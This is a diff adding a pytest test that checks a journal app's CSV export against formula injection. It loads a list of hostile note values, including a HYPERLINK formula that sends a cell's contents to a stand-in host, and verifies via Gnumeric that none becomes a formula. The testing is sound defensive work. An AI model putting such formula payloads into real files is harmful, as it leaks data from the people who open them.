@@ -4,11 +4,16 @@ and the terminal table newest first."""
 from __future__ import annotations
 
 import csv
+import gzip
 import io
 import json
+import os
+import shutil
+import subprocess
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from xml.etree import ElementTree
 
 import pytest
 
@@ -136,3 +141,52 @@ def test_the_terminal_table_says_muscle_fatigue_as_the_window_does(journal: Jour
         line for line in to_text(journal.episodes(), UTC).splitlines() if "2026-11-01" in line
     )
     assert "Muscle fatigue" in row and "stayed" not in row
+
+
+# -- CSV injection (issue 18, 4): the export opened by a real spreadsheet engine ----------------
+
+HOSTILE_NOTES = (
+    "=1+1",
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",  # already quoted by the user
+)
+
+
+def test_no_note_in_a_csv_export_becomes_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    """Gnumeric (ssconvert) reads the export as LibreOffice or Excel would: every cell must be a
+    value (text or number), none a formula (a live HYPERLINK was seen), and each note still
+    reads as typed."""
+    if shutil.which("ssconvert") is None:
+        pytest.skip("Gnumeric's ssconvert is not installed (apt-get install gnumeric)")
+    journal = Journal.open(tmp_path / "journal.db")
+    for number, note in enumerate(HOSTILE_NOTES):
+        journal.add_manual(at(number * 3600), at(number * 3600 + 40), 1, "eased", note=note)
+    exported = tmp_path / "journal.csv"
+    exported.write_text(to_csv(journal.episodes()), encoding="utf-8")
+    journal.close()
+    sheet = tmp_path / "journal.gnumeric"
+    subprocess.run(
+        ["ssconvert", str(exported), str(sheet)],
+        check=True,
+        capture_output=True,
+        timeout=60,
+        env=dict(os.environ, HOME=str(tmp_path)),
+    )
+    cells = ElementTree.fromstring(gzip.decompress(sheet.read_bytes())).iter(
+        "{http://www.gnumeric.org/v10.dtd}Cell"
+    )
+    note_column = str(CSV_COLUMNS.index("note"))
+    notes, formulas = [], []
+    for cell in cells:
+        if "ValueType" not in cell.attrib:  # Gnumeric writes an expression without one
+            formulas.append(cell.text)
+        elif cell.get("Col") == note_column and cell.get("Row") != "0":
+            notes.append(cell.text)
+    assert formulas == []
+    shown = sorted(note.lstrip("'") for note in notes)  # Gnumeric keeps a second quote
+    assert shown == sorted(note.lstrip("'").replace("\r", "\n") for note in HOSTILE_NOTES)
